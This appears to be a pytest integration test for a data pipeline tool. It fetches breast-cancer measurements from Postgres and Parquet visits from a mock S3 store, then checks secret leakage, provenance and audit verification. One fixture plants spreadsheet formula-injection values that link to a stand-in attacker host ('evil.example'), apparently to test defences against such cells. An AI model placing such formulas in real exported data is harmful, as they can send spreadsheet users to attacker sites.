"""Tickets whose rows are in a real database and in an object store, from the fetch to the signed package."""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sklearn.datasets import load_breast_cancer

from tests.integration.train import Train
from tests.s3_server.server import S3Server
from tests.store.postgres_server import PostgresServer

PASSWORD, WRONG = "pw-geheim-4711", "pw-falsch-0815"
ACCESS, SECRET = "AKIDINTEGRATION", "s3-geheim/4711+x"
SECRETS = (PASSWORD, WRONG, SECRET, ACCESS)
DEADLINE = 60.0

SOURCES = """\
sql:
  - name: clinic
    url: postgresql://127.0.0.1:{port}/{database}
    user: reader
    password_file: secrets/clinic
    items:
      - {{name: cells, table: slow_cells}}
      - {{name: empty, query: SELECT * FROM cells WHERE false}}
  - name: stranger
    url: postgresql://127.0.0.1:{port}/{database}
    user: reader
    password_file: secrets/stranger
    items:
      - {{name: cells, table: cells}}
s3:
  - name: lake
    endpoint: {endpoint}
    region: eu-test-1
    bucket: research
    access_key_file: secrets/access
    secret_key_file: secrets/secret
    items:
      - {{name: visits, folder: visits/}}
"""


@pytest.fixture
def clinic() -> Iterator[tuple[PostgresServer, str]]:
    """Real measurements (scikit-learn's breast cancer set) in a table, and a view on it that takes seconds to read."""
    server = PostgresServer()
    try:
        database = server.create()
        bunch = load_breast_cancer(as_frame=True)
        names = [name.replace(" ", "_") for name in bunch.data.columns]
        with psycopg.connect(server.url(database), autocommit=True) as db:
            columns = ", ".join(f'"{name}" double precision' for name in names)
            db.execute(f"CREATE TABLE cells ({columns}, malignant smallint)".encode())
            with db.cursor() as cursor, cursor.copy("COPY cells FROM STDIN") as copy:
                for row, target in zip(bunch.data.itertuples(index=False), bunch.target, strict=True):
                    copy.write_row([*map(float, row), int(target == 0)])
            db.execute(
                f"CREATE VIEW slow_cells AS SELECT cells.* FROM (SELECT pg_sleep(4) OFFSET 0) s, cells;"
                f"CREATE USER reader PASSWORD '{PASSWORD}'; GRANT SELECT ON cells, slow_cells TO reader".encode()
            )
        yield server, database
    finally:
        server.close()


@pytest.fixture
def lake() -> Iterator[S3Server]:
    """Two Parquet objects of visits, with a column that a spreadsheet would carry out."""
    with S3Server(ACCESS, SECRET) as store:
        for part in range(2):
            numbers = list(range(part * 60, part * 60 + 60))
            notes = [f'=HYPERLINK("http://evil.example/{n}")' if n % 9 == 0 else "seen" for n in numbers]
            table = pa.table({"visit": numbers, "=1+1": [n % 5 for n in numbers], "note": notes})
            out = io.BytesIO()
            pq.write_table(table, out)
            store.objects["research", f"visits/part-{part}.parquet"] = out.getvalue()
        yield store


def prepare(train: Train, server: PostgresServer, database: str, endpoint: str) -> None:
    folder = train.home / "secrets"
    folder.mkdir(mode=0o700)
    for name, secret in (("clinic", PASSWORD), ("stranger", WRONG), ("access", ACCESS), ("secret", SECRET)):
        (folder / name).touch(mode=0o600)
        (folder / name).write_text(secret + "\n")
    text = SOURCES.format(port=server.port, database=database, endpoint=endpoint)
    (train.home / "sources.yaml").write_text(text, "utf-8")


def readers(server: PostgresServer) -> int:
    """How many reads are under way."""
    found = server.run("SELECT count(*) FROM pg_stat_activity WHERE application_name = 'value-train'")
    return int(found[0][0])


def wait(server: PostgresServer, wanted: int) -> None:
    patience = time.monotonic() + DEADLINE
    while readers(server) != wanted:
        assert time.monotonic() < patience, f"there are {readers(server)} readers and not {wanted}"
        time.sleep(0.05)


def processes_that_show(secrets: tuple[str, ...]) -> list[str]:
    """Processes with a secret among their arguments or in their environment."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            try:
                content = (process / name).read_bytes()
            except OSError:
                continue
            if any(secret.encode() in content for secret in secrets):
                found.append(f"{process.name} {name}")
    return found


def files_that_show(place: Path, secrets: tuple[str, ...]) -> list[str]:
    every = (path for path in place.rglob("*") if path.is_file() and path.parent.name != "secrets")
    return [str(path) for path in every if any(secret.encode() in path.read_bytes() for secret in secrets)]


def test_rows_of_a_database_and_a_bucket_to_their_end(
    train: Train, clinic: tuple[PostgresServer, str], lake: S3Server
) -> None:
    server, database = clinic
    prepare(train, server, database, lake.url)
    train.ticket(1, "Flag malignant tumours", data="source:clinic/cells", target="malignant", metric="roc_auc",
                 acceptance=["metrics.roc_auc_lower >= 0.9"])  # fmt: skip

    # Killed while the rows are read: nothing is left of them, and the next drive reads them.
    begun = train.start("drive", "--no-wait", "--json")
    try:
        wait(server, 1)
        shown = processes_that_show(SECRETS)
    finally:
        os.killpg(begun.pid, signal.SIGKILL)
        begun.communicate()
    assert shown == []
    wait(server, 0)
    assert list((train.home / "blobs").glob("sealed/*/*")) == []

    train.ticket(2, "Take the visits in", pipeline="data-onboarding", data="source:lake/visits")
    train.ticket(3, "A wrong password", data="source:stranger/cells", target="malignant")
    train.ticket(4, "No rows", data="source:clinic/empty", target="malignant")
    train.ticket(5, "Another item", data="source:clinic/patients", target="malignant")
    ran = train.run("drive", "--no-wait", "--json")

    assert ran.code in (3, 4), ran.out + ran.err
    reasons = {row["ticket"]: row["reason"] for row in ran.json["blocked"]}
    assert sorted(reasons) == [3, 4, 5], ran.out + ran.err
    assert "refuses the login of reader" in reasons[3]
    assert reasons[4] == "fetch failed: clinic/empty has no rows; name a table or query that gives some"
    assert "has no item 'patients'" in reasons[5]
    for row in ran.json["waiting"]:
        assert row["ticket"] == 2  # whether people are asked is the catalogue's business
        assert train.run("gate", "approve", row["gate"], "--as", "dana").code == 0
    ended = ran.json["completed"] + train.run("drive", "--json").json["completed"]
    assert sorted(row["ticket"] for row in ended) == [1, 2]

    sessions = {row["ticket"]: row for row in train.run("session", "list", "--json").json}
    snapshot = sessions[1]["snapshot"]
    assert (snapshot["source"], snapshot["item"], snapshot["rows"]) == ("clinic", "cells", 569)
    branch = str(sessions[1]["branch"])
    folder = f"{branch}:tickets/delivery_1/artifacts"
    recorded = json.loads(train.git("show", f"{folder}/data-sources/data-source.json"))
    assert recorded["snapshot"] == snapshot
    assert recorded["sha256"] == snapshot["sha256"]
    assert snapshot["taken"][:10] in train.git("show", f"{folder}/data-sources/data-sources.md")
    assert "source:clinic/cells" in train.git("show", f"{folder}/deployment/model-card.md")
    kept = train.git("ls-tree", "-r", "--name-only", branch)
    assert "provenance.json.dsse.json" in kept
    assert "source-snapshot" not in kept

    # What happens in the database afterwards changes nothing of what was decided.
    server.run("DELETE FROM cells", database)
    session = str(sessions[1]["session"])
    assert train.run("session", "replay", session, "--verify", "--json").json["difference"] is None
    assert train.run("audit", "verify", "--json").json["findings"] == []
    lineage = [json.loads(line) for line in train.run("audit", "lineage", session).out.splitlines()]
    inputs = [each for event in lineage for each in event["inputs"] if each["namespace"] == "value-train-source"]
    assert {each["facets"]["version"]["datasetVersion"] for each in inputs} == {snapshot["sha256"]}
    stored = train.home / "blobs" / "sealed" / snapshot["sha256"][:2] / snapshot["sha256"]
    assert stored.stat().st_size == snapshot["size"]
    stored.chmod(0o600)
    stored.write_bytes(stored.read_bytes()[:-1] + b"x")
    assert "source-snapshot.parquet" in train.run("audit", "verify", "--json").json["findings"][0]["where"]

    # Nobody was told a secret.
    assert files_that_show(train.repo, SECRETS) == []
    assert not any(secret in ran.out + ran.err for secret in SECRETS)
    words = ["git", "log", "--all", "-p", "--text"]
    written = subprocess.run(words, cwd=train.repo, check=True, capture_output=True).stdout
    assert not any(secret.encode() in written for secret in SECRETS)
